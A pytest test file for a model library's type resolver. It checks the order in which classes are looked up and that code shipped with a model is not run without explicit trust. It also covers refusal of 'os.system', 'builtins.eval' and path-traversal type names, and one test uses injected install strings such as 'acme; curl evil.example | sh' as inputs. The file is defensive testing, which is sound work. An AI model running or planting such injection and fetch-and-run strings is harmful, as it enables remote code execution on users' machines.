"""Which class a type string means, who is asked in which order, and what is never run to find out."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from hub_server import HubServer
from plugin_folders import HEAD, canary, give_last_module, importable, install, registry_of

from pairchain import CrossEncoder, Module, registry
from pairchain.errors import (
    ChainError,
    InputError,
    PairchainWarning,
    PluginImportError,
    TrustRequiredError,
    UnknownTypeError,
    UnsafePathError,
)
from pairchain.files.source import Source
from pairchain.trust.resolve import Resolver

PAIR = ("How many people live in Berlin?", "Berlin has 3.5 million inhabitants.")


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Path]:
    with importable(tmp_path / "site") as folder:
        yield folder


@pytest.fixture
def model(tmp_path: Path) -> Path:
    """An empty folder for a model."""
    folder = tmp_path / "model"
    folder.mkdir()
    return folder


def head(name: str) -> type[Module]:
    """Return a class that can stand in a chain, told from others by its name."""

    def forward(self: Module, features: dict[str, object], **kwargs: object) -> dict[str, object]:
        return features

    def save(self: Module, output_path: str, *args: object, **kwargs: object) -> None: ...

    return type(name, (Module,), {"forward": forward, "save": save})


def install_head(site: Path, type_name: str, *, before: str = "", hook: bool = False) -> None:
    """Install ``acme``, whose one class goes by ``type_name``, or is what its hook answers for that type."""
    code = f"{before}\n{HEAD}"
    if not hook:
        install(site, "acme", modules={type_name: "acme:Head"}, files={"acme.py": code})
        return
    code += "\nimport pairchain\n@pairchain.hookimpl\ndef pairchain_resolve_type(type_name):\n"
    code += f"    return Head if type_name == {type_name!r} else None\n"
    install(site, "acme-hooks", hooks={"types": "acme_hooks"}, files={"acme_hooks.py": code})


# -- the order ---------------------------------------------------------------------------------------------------------


def test_a_class_passed_in_comes_before_a_registered_one_and_that_before_a_plugin(
    site: Path, model: Path, tmp_path: Path
) -> None:
    install_head(site, "Head", before=canary(tmp_path / "imported"))
    plugins = registry_of(site)
    given, registered = head("Given"), head("Registered")
    undo = plugins.register("Head", registered)
    source = Source(str(model))
    assert Resolver(source, {"Head": given}, plugins).resolve("Head") is given
    assert Resolver(source, {"Other": given}, plugins).resolve("Head") is registered
    assert not (tmp_path / "imported").exists()
    undo()
    assert Resolver(source, registry=plugins).resolve("Head").__module__ == "acme"


def test_a_class_passed_in_needs_no_plugin_that_works(site: Path, model: Path) -> None:
    install_head(site, "Head", before="raise RuntimeError")
    given = head("Given")
    assert Resolver(Source(str(model)), {"Head": given}, registry_of(site)).resolve("Head") is given


@pytest.mark.parametrize("type_name", ["head.Head", "user/repo--head.Head"])
def test_a_plugin_comes_before_code_that_comes_with_a_model(
    site: Path, model: Path, tmp_path: Path, type_name: str
) -> None:
    (model / "head.py").write_text(canary(tmp_path / "ran"))
    install_head(site, type_name)
    assert Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name).__module__ == "acme"
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("type_name", ["head.Head", "resolve-tests/before-hooks--head.Head"])
def test_code_that_comes_with_a_model_comes_before_a_hook(
    hub: HubServer, site: Path, model: Path, type_name: str
) -> None:
    hub.add_repo("resolve-tests/before-hooks")
    commit = hub.commit("resolve-tests/before-hooks", {"head.py": ""})
    (model / "head.py").touch()
    install_head(site, type_name, hook=True)
    with pytest.raises(TrustRequiredError):
        Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name, code_revision=commit)


@pytest.mark.parametrize("type_name", ["head.Head", "sentence_transformers.models.CNN"])
def test_a_hook_answers_for_a_type_nobody_else_provides(site: Path, model: Path, type_name: str) -> None:
    # types of that library are never files beside a model
    (model / "sentence_transformers").mkdir()
    (model / "sentence_transformers/models.py").touch()
    install_head(site, type_name, hook=True)
    assert Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name).__module__ == "acme_hooks"


def test_a_plugin_that_fails_is_an_error_and_not_passed_over(site: Path, model: Path) -> None:
    install_head(site, "Head", before="raise RuntimeError('no driver')")
    install_head(site, "Head", hook=True)
    with pytest.raises(PluginImportError, match="no driver"):
        Resolver(Source(str(model)), registry=registry_of(site)).resolve("Head")


# -- code that comes with a model --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("type_name", "file"),
    [("head.Head", "head.py"), ("code.heads.Head", "code/heads.py"), ("os.path.Head", "os/path.py")],
)
def test_a_file_beside_the_model_is_not_run_without_trust(
    site: Path, model: Path, tmp_path: Path, type_name: str, file: str
) -> None:
    (model / file).parent.mkdir(exist_ok=True)
    (model / file).write_text(canary(tmp_path / "ran"))
    with pytest.raises(TrustRequiredError) as caught:
        Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name)
    assert f"for the type {type_name!r}" in caught.value.what
    assert f"{model / file} (" in caught.value.what
    assert caught.value.where == str(model)
    assert caught.value.approvals[0].startswith("sha256:")
    assert f"trust_remote_code=['{caught.value.approvals[0]}']" in caught.value.next_step
    assert not (tmp_path / "ran").exists()


def test_a_saved_model_whose_head_is_a_file_beside_it_loads_only_with_the_class_passed_in(
    site: Path, pooled: Path, tmp_path: Path
) -> None:
    (pooled / "head.py").write_text(canary(tmp_path / "ran"))
    give_last_module(pooled, "head.Head")
    with pytest.raises(TrustRequiredError, match=r"head\.Head"):
        CrossEncoder(pooled)
    install_head(site, "unused")
    from acme import Head

    assert CrossEncoder(pooled, module_classes={"head.Head": Head}).predict(PAIR).shape == ()
    assert not (tmp_path / "ran").exists()


def test_a_file_beside_a_model_on_the_hub_is_not_run_without_trust(
    hub: HubServer, pooled: Path, tmp_path: Path
) -> None:
    (pooled / "head.py").write_text(canary(tmp_path / "ran"))
    give_last_module(pooled, "head.Head")
    hub.add_repo("resolve-tests/beside")
    hub.commit("resolve-tests/beside", pooled)
    told = r"for the type 'head\.Head':\n.*/resolve-tests/beside/blob/[0-9a-f]{40}/head\.py"
    with pytest.raises(TrustRequiredError, match=told):
        CrossEncoder("resolve-tests/beside")
    assert not (tmp_path / "ran").exists()


def test_code_of_another_repository_is_shown_and_not_run_without_trust(
    hub: HubServer, pooled: Path, tmp_path: Path
) -> None:
    hub.add_repo("resolve-tests/code")
    commit = hub.commit("resolve-tests/code", {"head.py": canary(tmp_path / "ran")})
    give_last_module(pooled, "resolve-tests/code--head.Head")
    with (
        pytest.warns(PairchainWarning, match=f"pin it with code_revision=.*{commit}"),
        pytest.raises(TrustRequiredError) as caught,
    ):
        CrossEncoder(pooled)
    assert caught.value.approvals == (f"resolve-tests/code@{commit}",)
    assert not (tmp_path / "ran").exists()


# -- what is never imported --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("type_name", ["os.system", "subprocess.Popen", "torch.nn.Linear", "builtins.eval"])
def test_an_importable_path_is_not_a_type(site: Path, model: Path, type_name: str) -> None:
    with pytest.raises(UnknownTypeError, match=f"no installed plugin provides the type '{type_name}'"):
        Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name)


def test_a_module_on_the_path_is_not_imported_because_a_model_names_it(
    site: Path, pooled: Path, tmp_path: Path
) -> None:
    (site / "bystander.py").write_text(canary(tmp_path / "ran"))
    give_last_module(pooled, "bystander.Head")
    with pytest.raises(UnknownTypeError, match=r"'bystander\.Head'"):
        CrossEncoder(pooled)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("type_name", ["..secret.Head", "../secret.Head", "/etc/secret.Head", "C:\\secret.Head"])
def test_a_type_that_leads_out_of_the_model_is_refused(site: Path, model: Path, tmp_path: Path, type_name: str) -> None:
    (tmp_path / "secret.py").write_text(canary(tmp_path / "ran"))
    with pytest.raises(UnsafePathError, match="leaves the model's folder"):
        Resolver(Source(str(model)), registry=registry_of(site)).resolve(type_name)
    assert not (tmp_path / "ran").exists()


# -- errors ------------------------------------------------------------------------------------------------------------


def test_a_model_saved_with_a_plugin_that_is_absent_says_what_to_install(site: Path, pooled: Path) -> None:
    give_last_module(pooled, "acme_heads.Head", distribution="acme-heads", version="1.2")
    with pytest.raises(UnknownTypeError, match=r"acme_heads\.Head") as caught:
        CrossEncoder(pooled)
    assert caught.value.claimed == "acme-heads"
    assert caught.value.next_step.startswith("the model's files claim that the package 'acme-heads' provides it")
    assert "Look at https://pypi.org/project/acme-heads/ first" in caught.value.next_step
    assert caught.value.next_step.endswith("Only if you trust it: pip install acme-heads")


@pytest.mark.parametrize(
    "recorded", ["acme; curl evil.example | sh", "--index-url=http://evil.example acme", "a\nb", "evil" * 100]
)
def test_what_a_model_records_is_only_repeated_if_it_names_a_distribution(
    site: Path, model: Path, recorded: str
) -> None:
    with pytest.raises(UnknownTypeError) as caught:
        Resolver(Source(str(model)), registry=registry_of(site)).resolve("acme.Head", distribution=recorded)
    assert "evil" not in str(caught.value)
    assert "pip install" not in str(caught.value)


def test_a_class_that_is_no_module_is_refused_with_what_it_lacks(site: Path, model: Path) -> None:
    code = "from torch import nn\nclass Plain: ...\nclass Silent(nn.Module): ...\n"
    install(site, "acme", modules={"Plain": "acme:Plain", "Silent": "acme:Silent"}, files={"acme.py": code})
    resolver = Resolver(Source(str(model)), registry=registry_of(site))
    with pytest.raises(ChainError, match=r"'Plain', acme\.Plain, is not a module: it lacks torch\.nn\.Module"):
        resolver.resolve("Plain")
    with pytest.raises(ChainError, match=r"'Silent', acme\.Silent, is not a module: it lacks forward, save, load"):
        resolver.resolve("Silent")


def test_something_else_than_a_class_passed_in_is_refused(model: Path) -> None:
    resolver = Resolver(Source(str(model)), {"Head": "acme.Head"})  # type: ignore[dict-item]
    with pytest.raises(InputError, match=r"module_classes\['Head'\] is 'acme\.Head', not a class"):
        resolver.resolve("Head")


def test_registering_a_class_by_hand_is_enough_to_load_a_model_that_names_it(site: Path, pooled: Path) -> None:
    give_last_module(pooled, "acme.Head")
    install_head(site, "unused")
    from acme import Head

    undo = registry.register("acme.Head", Head)
    try:
        assert type(CrossEncoder(pooled)[2]) is Head
    finally:
        undo()
    with pytest.raises(UnknownTypeError):
        CrossEncoder(pooled)
